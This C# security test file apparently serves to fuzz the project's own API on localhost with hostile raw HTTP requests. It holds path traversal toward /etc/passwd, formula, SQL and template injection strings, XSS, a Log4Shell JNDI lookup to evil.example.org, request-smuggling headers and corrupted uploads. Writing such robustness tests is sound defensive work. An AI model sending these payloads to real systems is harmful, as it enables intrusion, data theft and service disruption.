using System.Globalization;
using System.Text;

namespace Allo62.Api.Tests.Security;

/// <summary>Requests as an attacker sends them, drawn from a seed: bytes for a raw connection.</summary>
internal sealed class HostileRequests(int seed, byte[] package)
{
    private const string Json = "Content-Type: application/json\r\n";

    private static readonly string[] Paths =
    [
        "/../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/v1/..%2f..%2fkeys.json", "//v1//classify", "/v1/classify/../../metrics", "/v1/contacts/%00", "/v1/contacts/%ff%fe", "/v1/contacts/rsa?commune=%F0%9F%92%A9%00",
        "/v1/models/..%5c..%5cchampion/activate", "/v1/review?page=-1&pageSize=99999999999999999999", "/v1/review/export?format=../x", "/v1/feedback/00000000-0000-0000-0000-000000000000", "/index.html/..;/v1/models",
        "/openapi/..%2fv1.json", "/%", "/%zz", "/v1/classify?%", "http://evil.example.org/v1/model", "*", "/v1/contacts/" + new string('a', 6_000), "/v1/review?category[]=1&category[]=2", "/v1/contacts/rsa?commune='; DROP TABLE requests; --",
    ];

    private static readonly string[] Texts =
    [
        "=cmd|'/c calc'!A1", "@SUM(1+1)*cmd|' /C calc'!A0", "+33=1", "-1+1", "\\t=1+1", "<script>alert(1)</script>", "'; DROP TABLE requests; --", "${jndi:ldap://evil.example.org/a}", "{{7*7}}", "\\u0000", "\\ud800", "\\udfff\\ud800", "\\ufeff\\u200b\\u202e",
        "a\\u0301\\u0301\\u0301\\u0301\\u0301\\u0301\\u0301\\u0301", "\\ud83d\\udc68\\u200d\\ud83d\\udc69\\u200d\\ud83d\\udc67", "\\u0130\\u0131\\u017f\\u212a", "\\uffff\\ufffe", "ا\\u202eب", " ", "\\n\\n\\n", "﷽﷽﷽﷽", "\\u2028\\u2029",
    ];

    private static readonly string[] Bodies =
    [
        "", "{", "}", "[]", "null", "true", "0", "\"", "{\"text\":}", "{\"text\":null}", "{\"text\":[]}", "{\"text\":{\"text\":1}}", "{\"text\":\"a\",\"text\":\"b\"}", "{\"text\":1e999}", "{\"a\":1}", "{\"text\":\"a\",}", "{'text':'a'}", "// x\n{}", "\uFEFF{\"text\":\"rsa\"}",
        "{\"text\":\"a\",\"explain\":\"yes\"}", "{\"text\":\"a\",\"state\":\"eyJ9.AAAA\"}", "{\"text\":\"a\",\"state\":\"....\"}", "{\"state\":\"\",\"choice\":\"none\"}", "{\"requests\":[]}", "{\"requests\":[null,1,{}]}", "{\"verdict\":\"corrected\"}", "{\"reason\":\"\\u0007\"}",
    ];

    private readonly Random _random = new(seed);

    /// <param name="isWhole">Whether the service can answer it without waiting for more.</param>
    public byte[] Next(out bool isWhole)
    {
        var kind = _random.Next(12);
        isWhole = kind is not (4 or 5 or 6);
        return Of(kind);
    }

    private byte[] Of(int kind) => kind switch
    {
        0 => Request("GET", Pick(Paths), "", ""),
        1 => Request("POST", "/v1/classify", Json, $"{{\"text\":\"{Pick(Texts)}\",\"commune\":\"{Pick(Texts)}\"}}"),
        2 => Request("POST", "/v1/classify", Json, Pick(Bodies)),
        3 => Request(Pick(["PUT", "POST", "DELETE", "PATCH", "TRACE", "CONNECT", "G\0T", "get", new string('X', 300)]), Pick(["/v1/feedback/" + Guid.Empty, "/v1/classify/batch", "/v1/model", "/v1/models/rollback-not", "/metrics"]), Json, Pick(Bodies)),
        4 => Encoding.Latin1.GetBytes(Pick(
            ["GET / HTTP/9.9\r\n\r\n", "GET /\r\n\r\n", "\r\n\r\n\r\n", "\0\0\0\0", "POST /v1/classify HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n", "GET / HTTP/1.1\r\n\r\n", "GET / HTTP/1.1\r\nHost: \r\nX: \0\r\n\r\n", "GET / HTTP/1.1\nHost: localhost\n\n", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
            "POST /v1/classify HTTP/1.1\r\nHost: localhost\r\nContent-Length: -1\r\n\r\n", "POST /v1/classify HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n", "POST /v1/classify HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFFF\r\n",
            "GET / HTTP/1.1\r\nHost: localhost\r\n folded\r\n\r\n", "\u0016\u0003\u0001\u0002\u0000\u0001\u0000\u0001\u00fc\u0003\u0003"])),
        5 => Garbage(_random.Next(1, 2_000)),
        6 => Request("POST", "/v1/classify", "Content-Type: application/json\r\nContent-Length: 99999999999\r\n", "{", counted: false),
        7 => Request("POST", "/v1/classify", Json, "{\"text\":\"" + new string(Pick(["a", "é", "\u0001", "\""])[0], _random.Next(4_001, 90_000)) + "\"}"),
        8 => Request("POST", Pick(["/v1/classify", "/v1/classify/batch"]), Json, string.Concat(Enumerable.Repeat(Pick(["[", "{\"a\":", "{\"requests\":["]), _random.Next(10, 5_000)))),
        9 => Request("GET", "/v1/model", string.Concat(Enumerable.Range(0, _random.Next(10, 400)).Select(i => $"X-{i}: {new string('y', _random.Next(1, 200))}\r\n")), ""),
        10 => Request("POST", "/v1/classify", $"Content-Type: {Pick(["text/plain", "application/json; charset=utf-7", "multipart/form-data; boundary=x", "application/x-www-form-urlencoded", ";;;", "application/json;;"])}\r\nAuthorization: Bearer {new string('é', 20)}\r\nX-Forwarded-For: {Pick(["::1", "999.1.1.1", "127.0.0.1"])}\r\n", Pick(Bodies)),
        _ => Upload(),
    };

    private byte[] Upload()
    {
        var content = _random.Next(4) switch
        {
            0 => Garbage(_random.Next(1, 5_000)),
            1 => package[.._random.Next(1, package.Length)],
            2 => [.. "PK\u0003\u0004"u8.ToArray(), .. Garbage(300)],
            _ => Altered(),
        };
        return [.. Request("POST", "/v1/models", string.Create(CultureInfo.InvariantCulture, $"Content-Type: application/octet-stream\r\nContent-Length: {content.Length}\r\n"), "", counted: false), .. content];
    }

    private byte[] Altered()
    {
        var altered = package.ToArray();
        for (var i = 0; i < 5; i++) altered[_random.Next(altered.Length)] ^= (byte)(1 << _random.Next(8));
        return altered;
    }

    private byte[] Garbage(int length)
    {
        var bytes = new byte[length];
        _random.NextBytes(bytes);
        return bytes;
    }

    private static byte[] Request(string method, string path, string headers, string body, bool counted = true) => Encoding.UTF8.GetBytes(
        string.Create(CultureInfo.InvariantCulture, $"{method} {path} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n{headers}{(counted ? $"Content-Length: {Encoding.UTF8.GetByteCount(body)}\r\n" : "")}\r\n{body}"));

    private string Pick(string[] from) => from[_random.Next(from.Length)];
}
